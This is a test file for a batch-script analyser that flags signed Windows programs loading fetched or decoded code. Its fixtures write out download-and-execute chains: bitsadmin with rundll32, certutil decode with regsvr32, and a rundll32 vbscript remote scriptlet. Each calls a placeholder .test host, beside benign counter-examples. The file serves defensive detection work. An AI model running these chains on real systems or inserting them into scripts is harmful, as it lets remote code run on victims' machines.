import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** Signed Windows programs that load what an earlier line fetched or decoded (src/analysis/code/batch/lolbins.ts). */

const bat = (code: string) => factsOf('batch', code.replace(/\n/g, '\r\n'));
const runsDownload = (r: Awaited<ReturnType<typeof bat>>) =>
  ofKind(r, 'execute').some((e) => e.code.taints.includes('download') || e.code.taints.includes('decoded'));

describe('living-off-the-land loaders in batch files', () => {
  it.each([
    [
      'bitsadmin then rundll32 with an ordinal',
      'set "D=%APPDATA%\\vendor"\nbitsadmin /transfer x /download https://cdn.x.test/helper.bin "%D%\\h.dll"\nrundll32 "%D%\\h.dll",#1\n',
    ],
    [
      'certutil, decode, regsvr32 /s',
      'certutil.exe /urlcache /f https://x.test/p.txt %TEMP%\\p.txt\ncertutil /decode %TEMP%\\p.txt %TEMP%\\p.ocx\nregsvr32 /s %TEMP%\\p.ocx\n',
    ],
    [
      'rundll32 vbscript with a remote scriptlet',
      'rundll32.exe vbscript:"\\..\\mshtml,RunHTMLApplication "+GetObject("script:https://x.test/a.sct")(window.close)\n',
    ],
  ])('%s runs fetched code', async (_label, code) => {
    const r = await bat(code);
    expect(runsDownload(r), JSON.stringify(r.behaviours.map((b) => b.kind))).toBe(true);
  });

  it.each([
    ['a system library entry point', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl\n'],
    ['registering a DLL the installer ships', 'regsvr32 /s "%~dp0bin\\addin.dll"\n'],
    ['printing the user-agent page', 'rundll32 url.dll,FileProtocolHandler https://docs.x.test/help\n'],
  ])('%s is not a fetched load', async (_label, code) => {
    const r = await bat(code);
    expect(runsDownload(r)).toBe(false);
  });
});
